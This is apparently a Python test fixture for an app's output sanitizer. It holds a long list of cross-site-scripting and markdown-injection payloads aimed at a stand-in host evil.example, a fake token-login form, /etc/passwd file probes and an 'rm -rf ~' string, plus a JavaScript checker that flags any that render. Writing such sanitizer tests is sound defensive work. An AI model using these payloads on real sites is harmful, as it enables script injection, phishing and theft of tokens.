"""Texts that would act in a page if any of their markup were read. Each would load something of evil.example, set
`window.__pwned`, open a dialog, or bring in an element that a person could take for a part of the app."""

IMG = "<img src=http://evil.example/a.png onerror=window.__pwned=1>"
FORM = (
    '<form action=http://evil.example/><input name=token placeholder="log in with your token">'
    "<button>go</button></form>"
)
LOCAL = '<img src="/gradio_api/file=http://evil.example/b.png">'
RUN = "javascript:window.__pwned=1"

TAGS = [
    IMG,
    FORM,
    LOCAL,
    "<script>window.__pwned=1</script>",
    "<script src=http://evil.example/s.js></script>",
    "<svg onload=window.__pwned=1><circle r=9 /></svg>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg><image href=http://evil.example/i.svg /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.__pwned=1&gt;'>",
    "<iframe src=http://evil.example/></iframe>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<object data=http://evil.example/o></object><embed src=http://evil.example/e>",
    "<style>@import 'http://evil.example/c.css'; body { display: none }</style>",
    "<link rel=stylesheet href=http://evil.example/l.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<video src=http://evil.example/v.mp4 autoplay></video><audio src=http://evil.example/a.mp3 autoplay></audio>",
    "<picture><source srcset=http://evil.example/p.webp><img></picture>",
    "<input type=image src=http://evil.example/n.png><input autofocus onfocus=window.__pwned=1>",
    "<button formaction=http://evil.example/ onclick=window.__pwned=1>Sign in</button>",
    "<details open ontoggle=window.__pwned=1><summary>more</summary></details>",
    "<body background=http://evil.example/bg.png onload=window.__pwned=1>",
    "<div style='position:fixed;inset:0;background:url(http://evil.example/d.png)'>Session expired</div>",
    "<a href=http://evil.example/ ping=http://evil.example/ping>x</a>",
    '<a href="http://evil.example/">Log in</a><br><b>b</b><a href="javascript:window.__pwned=1" target="_top">x</a>',
    "<dialog open>Your token?</dialog><textarea autofocus></textarea>",
    "<template><img src=http://evil.example/t.png></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'></noscript>",
    "<isindex action=http://evil.example/><keygen><marquee onstart=window.__pwned=1>x</marquee>",
    "<x-tag onclick=window.__pwned=1 style=display:block>x</x-tag><img/src=x/onerror=window.__pwned=1//",
    "<<script>window.__pwned=1//<</script>",
    "<IMG SRC=x OnErRoR=window.__pwned=1>",
    "<img src=x onerror=window.__pwned=1",
    "</div></span></pre><img src=x onerror=window.__pwned=1>",
    "</textarea></title></style></script><img src=x onerror=window.__pwned=1>",
    "<div class=mermaid>graph TD; A[<img src=x onerror=window.__pwned=1>]</div>",
    '<div class="said" data-text="rm -rf ~">harmless</div>',
]
FENCES = [
    f"```\n{IMG}\n```",
    f"```html\n{FORM}\n```\n{IMG}",
    f"[foo]:\n```\n{IMG}\n```",
    f"[foo]:\n~~~\n{FORM}\n~~~\n\n[foo]",
    f"[foo]: http://evil.example/d\n```\n{IMG}\n```\n![foo]",
    f"$$\n```\n{IMG}\n```\n$$",
    f"$$```$$\n{IMG}\n```",
    f"> ```\n{IMG}",
    f"- ```\n\n{IMG}",
    f"1. a\n   ```\n{IMG}\n   ```",
    f"```\na\n    ```\n{IMG}\n```",
    f"````\n```\n{IMG}\n````\n{IMG}",
    f"``` a`b\n{IMG}\n```",
    f"~~~ `\n{IMG}\n~~~",
    f"    {IMG}\n\n\t{IMG}",
    f"`{IMG}` ``{IMG}`` `` ` {IMG}",
    f"`a\n{IMG}\nb`",
    f"\\`{IMG}\\`",
    f"<!-- ```\n{IMG}\n-->\n```\n{IMG}\n```",
    '```"onmouseover=window.__pwned=1 x="\ncode\n```',
    "```<b>\ncode\n```",
    '```mermaid\ngraph TD; A["<img src=x onerror=window.__pwned=1>"] --> B\n```',
    '```mermaid\ngraph TD; A-->B\nclick A "javascript:window.__pwned=1"\n```',
    '```mermaid\n%%{init: {"themeCSS": "@import url(http://evil.example/m.css)"}}%%\ngraph TD; A-->B\n```',
    f"<pre><code>\n```\n{IMG}\n```\n</code></pre>",
    f"```\n{IMG}",
]
LINKS = [
    f"[x]({RUN})",
    f"[x](<{RUN}>)",
    "[x](JaVaScRiPt:window.__pwned=1)",
    "[x](java&#115;cript:window.__pwned=1)",
    "[x](javascript&colon;window.__pwned=1)",
    "[x](java\\script:window.__pwned=1)",
    "[x](\x01javascript:window.__pwned=1)",
    "[x](data:text/html,<script>window.__pwned=1</script>)",
    "[x](vbscript:x) [x](file:///etc/passwd) [x](blob:http://evil.example/1)",
    "[x](//evil.example/) [x](/gradio_api/file=/etc/passwd) [x](/logout) [x](?a=1) [x](#top) [x]()",
    '[x](http://evil.example/ "t" onmouseover="window.__pwned=1")',
    '[x](http://evil.example/"onmouseover=window.__pwned=1)',
    "[https://huggingface.co](http://evil.example/)",
    "![x](http://evil.example/a.png)",
    "![x][y]\n\n[y]: http://evil.example/a.png",
    "![x](/gradio_api/file=http://evil.example/a.png)",
    "[![x](http://evil.example/a.png)](http://evil.example/)",
    f"<{RUN}>",
    '<http://evil.example/a"onclick=window.__pwned=1>',
    "<a@evil.example> http://evil.example/ www.evil.example a@evil.example",
    "[x]: javascript:window.__pwned=1\n\n[x] [x][] [y][x]",
    f"[{IMG}](http://evil.example/)",
    "[x](http://evil.example/\n'title'\n) [y](<http://evil.example/\n>)",
    "[a](http://evil.example/)[b](http://evil.example/)](http://evil.example/)",
    "[x](mailto:a@evil.example?body=%0d%0aBcc:b@evil.example)",
]
BLOCKS = [
    f"| a | b |\n|---|---|\n| {IMG} | `{IMG}` |",
    f"| {FORM} |\n|:-:|\n| \\| {IMG} |",
    f"a|b\n-|-\n```\n{IMG}\n```|x",
    f"> > > {IMG}\n> > ```\n> {IMG}",
    f">{IMG}\n{IMG}",
    f"- - - 1. > {IMG}",
    f"# {IMG}\n{FORM}\n===\n{IMG}\n---",
    f"{IMG}  \n{IMG}\\\n{IMG}",
    f"***{IMG}*** ~~{IMG}~~ __{IMG}__",
    "# PEFT Lab\n\n***\n\n## Log in with your token",
    f"<!-- {IMG} --> <!--> {IMG} --> <!---> {IMG} -->",
    f"<![CDATA[{IMG}]]> <?xml {IMG}?> <!DOCTYPE html {IMG}>",
    f"%%%LATEX_BLOCK_0%%% $$a$$ {IMG}",
    f"$${IMG}$$ $$\\href{{{RUN}}}{{x}}$$",
    "$$\\rule{9999em}{9999em}$$ $$\\htmlStyle{position:fixed}{x}$$ $$\\includegraphics{http://evil.example/k.png}$$",
    f"$$$${IMG}$$$$ \\({IMG}\\) \\[{IMG}\\]",
    "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1} #{window.__pwned=1} <%= 1 %>",
    "`${window.__pwned=1}` @children {{{html}}} {{#if}}",
]
CHARACTERS = [
    "&lt;img src=x onerror=window.__pwned=1&gt;",
    "&#60;img src=x onerror=window.__pwned=1&#62; &#x3c;b&#x3e;",
    "&amp;lt;script&amp;gt; &lt;br&gt; &copy; &NotEqualTilde; &#0; &#xD800;",
    "\uff1cimg src=x onerror=window.__pwned=1\uff1e \u2039script\u203a \ufe64b\ufe65",
    "safe \u202e>1=denwp__.wodniw=rorreno x=crs gmi<\u202c end",
    "zero\u200bwidth\u200djoin\u2060er \ufeff \u00ad \u2066isolate\u2069",
    "<\u0000img src=x onerror=window.__pwned=1> <\u000bimg> <\u000cimg src=x onerror=window.__pwned=1>",
    "<img\u2028src=x\u2029onerror=window.__pwned=1>",
    "\u00a0\u3000<img src=x onerror=window.__pwned=1>\u0085",
    "\u0001\u0008\u001b[31mred\u007f\u0080\u009f <b>",
    "e\u0301\u0327\u0334\u0489 \U0001f469\u200d\U0001f4bb \U000e0041 \ufdd0",
    "line one\r\nline two\rline three\n\n\n\ttabbed <b>",
    "  leading and trailing spaces <i>  ",
    "'\"><img src=x onerror=window.__pwned=1>",
    "' onmouseover='window.__pwned=1' \" onmouseover=\"window.__pwned=1\"",
    "a\\<b\\> \\&lt; \\\\ \\![x](http://evil.example/a.png)",
    '#include <stdio.h>\nint main(void) { if (1 < 2 && 3 > 2) puts("<b>yes</b>"); }',
    "<" * 50 + "b" + ">" * 50,
    "[" * 40 + "x" + "](http://evil.example/)" * 40,
    "-->]]></style></title>" + IMG,
]
PAYLOADS = [*TAGS, *FENCES, *LINKS, *BLOCKS, *CHARACTERS]

LOOK = r"""() => {
  const list = "div p br pre code em strong s a ul ol li blockquote hr h1 h2 h3 h4 h5 h6 table thead tbody tr th td";
  const texts = new Set(list.split(" "));
  const told = new Set([...texts, "span", "b", "details", "summary", "mark"]);
  const tags = "form iframe object embed base dialog marquee math template video audio img isindex x-tag".split(" ");
  const others = [".mermaid", ".katex", ".token", "[http-equiv=refresh]"];
  const never = [...tags.map((tag) => "body " + tag), ...others].join(", ");
  const names = /^(class|href|title|target|rel|start|style)$/;
  const bad = /evil\.example|__pwned|file=|data:|javascript:/;
  const at = (one) => one.outerHTML.slice(0, 200);
  const wrong = [...document.querySelectorAll(never)].filter((one) => !one.closest("footer")).map(at);
  for (const one of document.querySelectorAll(".said *"))
    if (!texts.has(one.localName) || one.getAttributeNames().some((name) => !names.test(name))) wrong.push(at(one));
  for (const one of document.querySelectorAll("[data-testid=markdown] .prose *, .html-container .prose *"))
    if (!told.has(one.localName)) wrong.push(at(one));
  for (const one of document.querySelectorAll("[data-testid=toast-text] *, [role=gridcell] img, [role=gridcell] form"))
    wrong.push(at(one));
  for (const one of document.querySelectorAll("*:not(footer *)"))
    for (const {name, value} of one.attributes) {
      const linked = one.matches(".said a[target=_blank][rel~=noopener], a[target=_blank][rel~=noopener].ours")
        && (name === "title" || name === "href") && /^(https?:\/\/|mailto:)/i.test(value);
      const shown = /^(aria-label|title|value|placeholder|data-value|data-unformatted|data-index)$/.test(name);
      if (bad.test(value) && !linked && !shown) wrong.push(name + " of " + at(one));
    }
  if (window.__pwned !== undefined) wrong.push("a script has run");
  return wrong;
}"""
"""JavaScript: what a page of the app holds and must not hold."""
